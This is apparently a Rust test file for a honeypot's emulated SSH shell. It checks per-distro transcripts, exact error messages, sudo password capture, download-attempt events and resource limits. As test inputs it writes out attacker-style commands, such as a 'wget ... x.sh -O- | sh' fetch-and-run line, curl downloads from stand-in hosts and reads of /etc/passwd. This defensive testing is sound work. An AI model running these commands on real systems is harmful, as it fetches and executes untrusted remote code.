//! Fidelity tests of the emulated shell: per-distro transcripts (insta snapshots), exact
//! error texts, per-decky variation and per-decky stability.

use super::*;
use decnet_core::catalog;

const START: i64 = 1_718_000_000; // 2024-06-10
const NOW: i64 = START + 4_000;

fn persona(distro: &str, seed_byte: &str) -> Persona {
    let ssh = catalog::service("ssh").unwrap();
    Persona::from_json(
        ssh,
        &serde_json::json!({
            "node_name": "decky-07",
            "hostname": match distro { "rocky9" => "cedar12.localdomain", "alpine" => "onyx-41", _ => "SRV-ATLAS-12" },
            "distro": distro,
            "seed": seed_byte.repeat(32),
            "users": "root:toor,admin:admin123",
        }),
    )
    .unwrap()
}

fn peer() -> SocketAddr {
    "203.0.113.9:51515".parse().unwrap()
}

/// Runs `lines` in one interactive session and renders prompt + input + output.
fn transcript(shell: &Shell, user: &str, lines: &[&str]) -> String {
    let mut s = shell.session(user, peer(), Mode::Interactive, NOW, 0);
    let mut out = String::new();
    for line in lines {
        out.push_str(&shell.prompt(&s));
        out.push_str(line);
        out.push('\n');
        let o = shell.run_line(&mut s, line, NOW);
        out.push_str(&o.text);
        if o.exit.is_some() {
            break;
        }
    }
    out
}

const SCRIPT: &[&str] = &[
    "uname -a",
    "uname -r",
    "uname -snrvm",
    "uname -x",
    "id",
    "whoami",
    "pwd",
    "hostname",
    "cd /nope",
    "cd /etc/passwd",
    "cd /var/log",
    "pwd",
    "cd",
    "ls",
    "ls -la",
    "ls /",
    "ls -l /home",
    "ls /missing",
    "cat /etc/passwd",
    "cat /etc/os-release",
    "cat /etc/hostname",
    "cat /proc/version",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m",
    "free -h",
    "w",
    "uptime",
    "ps aux",
    "ps -ef | head -3",
    "ifconfig",
    "ip a",
    "ip r",
    "echo hello $USER; echo -e 'a\\x41b'",
    "foo",
    "ls && foo || echo recovered",
    "wget http://198.51.100.7/x.sh",
    "curl -O http://evil.example/bot",
    "echo secret > /tmp/x; cat /tmp/x",
    "history",
    "export FOO=bar; env | grep FOO",
    "exit",
];

fn snapshot_distro(distro: &str) -> String {
    let shell = Shell::new(&persona(distro, "11"), None, START);
    transcript(&shell, "root", SCRIPT)
}

#[test]
fn debian_transcript() {
    insta::assert_snapshot!(snapshot_distro("debian"));
}

#[test]
fn rocky9_transcript() {
    insta::assert_snapshot!(snapshot_distro("rocky9"));
}

#[test]
fn alpine_transcript() {
    insta::assert_snapshot!(snapshot_distro("alpine"));
}

#[test]
fn exact_answers_debian() {
    let p = persona("debian", "11");
    let shell = Shell::new(&p, None, START);
    let mut s = shell.session("root", peer(), Mode::Interactive, NOW, 0);
    let run = |s: &mut Session, l: &str| shell.run_line(s, l, NOW).text;
    assert_eq!(
        run(&mut s, "uname -a"),
        format!(
            "Linux SRV-ATLAS-12 {} {} x86_64 GNU/Linux\n",
            p.kernel.release, p.kernel.version
        )
    );
    assert_eq!(
        run(&mut s, "id"),
        "uid=0(root) gid=0(root) groups=0(root)\n"
    );
    assert_eq!(run(&mut s, "foo"), "-bash: foo: command not found\n");
    assert_eq!(
        run(&mut s, "cd /nope"),
        "-bash: cd: /nope: No such file or directory\n"
    );
    assert_eq!(
        run(&mut s, "cd /etc/passwd"),
        "-bash: cd: /etc/passwd: Not a directory\n"
    );
    assert_eq!(run(&mut s, "cd /a /b"), "-bash: cd: too many arguments\n");
    assert_eq!(shell.prompt(&s), "root@SRV-ATLAS-12:~# ");
    run(&mut s, "cd /var/log");
    assert_eq!(shell.prompt(&s), "root@SRV-ATLAS-12:/var/log# ");
    assert!(run(&mut s, "cat /etc/passwd").starts_with(
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    ));
    assert!(
        run(&mut s, "cat /etc/passwd")
            .contains("\nadmin:x:1000:1000:admin,,,:/home/admin:/bin/bash\n")
    );
    assert_eq!(run(&mut s, "exit"), "logout\n");
    assert_eq!(s.exited, Some(0));

    // Exec mode: bash -c messages.
    let mut e = shell.session("root", peer(), Mode::Exec, NOW, 1);
    assert_eq!(
        shell.run_line(&mut e, "foo", NOW).text,
        "bash: line 1: foo: command not found\n"
    );
    let both = shell.run_line(&mut e, "uname -r; id -un", NOW).text;
    assert_eq!(both, format!("{}\nroot\n", p.kernel.release));
}

#[test]
fn installed_programs_and_package_managers() {
    let shell = Shell::new(&persona("debian", "11"), None, START);
    let mut s = shell.session("root", peer(), Mode::Exec, NOW, 0);
    // A program that exists runs silently; one that does not is "not found".
    let o = shell.run_line(&mut s, "python3 -c 'print(1)'", NOW);
    assert_eq!((o.text.as_str(), s.status), ("", 0));
    assert_eq!(
        shell.run_line(&mut s, "which python3", NOW).text,
        "/usr/bin/python3\n"
    );
    let o = shell.run_line(&mut s, "apt-get install -y masscan", NOW);
    assert!(
        o.text.ends_with("E: Unable to locate package masscan\n"),
        "{}",
        o.text
    );
    assert_eq!(s.status, 100);
    let alpine = Shell::new(&persona("alpine", "11"), None, START);
    let mut a = alpine.session("root", peer(), Mode::Interactive, NOW, 0);
    assert!(
        alpine
            .run_line(&mut a, "apk add nmap", NOW)
            .text
            .contains("nmap (no such package)")
    );
    assert_eq!(
        alpine.run_line(&mut a, "apt-get install x", NOW).text,
        "-ash: apt-get: not found\n"
    );
    // curl is not installed on Alpine, but the attempt is still recorded.
    let o = alpine.run_line(&mut a, "curl -s http://x.example/y.sh", NOW);
    assert_eq!(o.text, "-ash: curl: not found\n");
    assert_eq!(o.events[1].kind, kind::DOWNLOAD_ATTEMPT);
    assert_eq!(o.events[1].get("url"), Some("http://x.example/y.sh"));
}

#[test]
fn other_shells_and_users() {
    let alpine = Shell::new(&persona("alpine", "11"), None, START);
    let mut s = alpine.session("root", peer(), Mode::Interactive, NOW, 0);
    assert_eq!(
        alpine.run_line(&mut s, "foo", NOW).text,
        "-ash: foo: not found\n"
    );
    assert_eq!(alpine.prompt(&s), "onyx-41:~# ");
    assert!(
        alpine
            .run_line(&mut s, "uname -a", NOW)
            .text
            .ends_with(" x86_64 Linux\n")
    );

    let rocky = Shell::new(&persona("rocky9", "11"), None, START);
    let mut s = rocky.session("admin", peer(), Mode::Interactive, NOW, 0);
    assert_eq!(rocky.prompt(&s), "[admin@cedar12 ~]$ ");
    assert!(
        rocky
            .run_line(&mut s, "id", NOW)
            .text
            .starts_with("uid=1000(admin) gid=1000(admin) groups=1000(admin),10(wheel)")
    );
    assert_eq!(
        rocky.run_line(&mut s, "cd /root", NOW).text,
        "-bash: cd: /root: Permission denied\n"
    );
    assert!(
        rocky
            .run_line(&mut s, "uname -a", NOW)
            .text
            .ends_with(" x86_64 x86_64 x86_64 GNU/Linux\n")
    );

    let kali = Shell::new(&persona("kali", "11"), None, START);
    let mut s = kali.session("root", peer(), Mode::Interactive, NOW, 0);
    assert_eq!(
        kali.run_line(&mut s, "foo", NOW).text,
        "zsh: command not found: foo\n"
    );
}

#[test]
fn sudo_asks_and_records_the_password() {
    let shell = Shell::new(&persona("debian", "11"), None, START);
    let mut s = shell.session("admin", peer(), Mode::Interactive, NOW, 0);
    let o = shell.run_line(&mut s, "sudo id", NOW);
    assert_eq!(o.text, "[sudo] password for admin: ");
    assert!(!o.echo);
    let o = shell.run_line(&mut s, "wrong", NOW);
    assert!(o.text.starts_with("Sorry, try again."));
    let auth = &o.events[0];
    assert_eq!(auth.kind, kind::AUTH_ATTEMPT);
    assert_eq!(auth.get("secret_printable"), Some("wrong"));
    assert_eq!(auth.get("outcome"), Some("failure"));
    assert_eq!(auth.get("src_port"), Some("51515"));
    let o = shell.run_line(&mut s, "admin123", NOW);
    assert_eq!(o.text, "uid=0(root) gid=0(root) groups=0(root)\n");
    assert_eq!(o.events[0].get("outcome"), Some("success"));
    assert_eq!(s.user.name, "admin");
    assert_eq!(shell.prompt(&s), "admin@SRV-ATLAS-12:~$ ");
}

#[test]
fn events_for_commands_and_downloads() {
    let shell = Shell::new(&persona("debian", "11"), None, START);
    let mut s = shell.session("root", peer(), Mode::Interactive, NOW, 0);
    let o = shell.run_line(
        &mut s,
        "cd /tmp && wget http://198.51.100.7/x.sh -O- | sh",
        NOW,
    );
    assert_eq!(o.events[0].kind, kind::COMMAND);
    assert_eq!(
        o.events[0].get("cmd"),
        Some("cd /tmp && wget http://198.51.100.7/x.sh -O- | sh")
    );
    assert_eq!(o.events[0].get("cwd"), Some("/root"));
    assert_eq!(o.events[0].get("user"), Some("root"));
    assert_eq!(o.events[0].get("src_ip"), Some("203.0.113.9"));
    let dl = &o.events[1];
    assert_eq!(dl.kind, kind::DOWNLOAD_ATTEMPT);
    assert_eq!(dl.get("url"), Some("http://198.51.100.7/x.sh"));
    assert_eq!(dl.get("tool"), Some("wget"));
    assert_eq!(dl.get("cwd"), Some("/tmp"));
    assert!(
        o.text
            .contains("Connecting to 198.51.100.7:80... failed: Connection refused.")
    );
    let o = shell.run_line(&mut s, "curl http://no.such.example/a", NOW);
    assert_eq!(
        o.text,
        "curl: (6) Could not resolve host: no.such.example\n"
    );
}

#[test]
fn deckies_differ_and_one_decky_is_stable() {
    let script = [
        "free",
        "ifconfig",
        "ps aux",
        "ls -la /opt",
        "cat /proc/cpuinfo",
        "uptime",
    ];
    let a1 = transcript(
        &Shell::new(&persona("debian", "11"), None, START),
        "root",
        &script,
    );
    let a2 = transcript(
        &Shell::new(&persona("debian", "11"), None, START),
        "root",
        &script,
    );
    let b = transcript(
        &Shell::new(&persona("debian", "22"), None, START),
        "root",
        &script,
    );
    assert_eq!(a1, a2);
    assert_ne!(a1, b);
    for cmd in ["free", "ifconfig", "uptime"] {
        let one = |seed: &str| {
            let shell = Shell::new(&persona("debian", seed), None, START);
            let mut s = shell.session("root", peer(), Mode::Exec, NOW, 0);
            shell.run_line(&mut s, cmd, NOW).text
        };
        assert_ne!(one("11"), one("22"), "{cmd} is the same on two deckies");
    }
}

#[test]
fn limits_hold() {
    let shell = Shell::new(&persona("debian", "11"), None, START);
    let mut s = shell.session("root", peer(), Mode::Interactive, NOW, 0);
    for i in 0..(MAX_HISTORY + 20) {
        shell.run_line(&mut s, &format!("echo {i}"), NOW);
    }
    assert_eq!(s.history.len(), MAX_HISTORY);
    let big = "x".repeat(200 * 1024);
    for i in 0..(MAX_OVERLAY_FILES + 5) {
        shell.run_line(&mut s, &format!("echo {} > /tmp/f{i}", &big[..3000]), NOW);
    }
    assert!(s.overlay.len() <= MAX_OVERLAY_FILES);
    assert!(s.overlay_bytes <= MAX_OVERLAY_BYTES);
    let o = shell.run_line(&mut s, &"a".repeat(100_000), NOW);
    assert!(o.events[0].get("cmd").unwrap().len() <= crate::event::MAX_FIELD_BYTES);
    // Deep nesting is cut, not recursed forever.
    let o = shell.run_line(&mut s, r#"bash -c "bash -c 'bash -c \"bash -c id\"'""#, NOW);
    assert!(o.text.len() < 200);
}

proptest::proptest! {
    #[test]
    fn any_line_is_answered(line in ".{0,300}") {
        let shell = Shell::new(&persona("debian", "11"), None, START);
        let mut s = shell.session("root", peer(), Mode::Interactive, NOW, 0);
        let o = shell.run_line(&mut s, &line, NOW);
        proptest::prop_assert!(o.text.len() <= MAX_OUTPUT);
    }
}
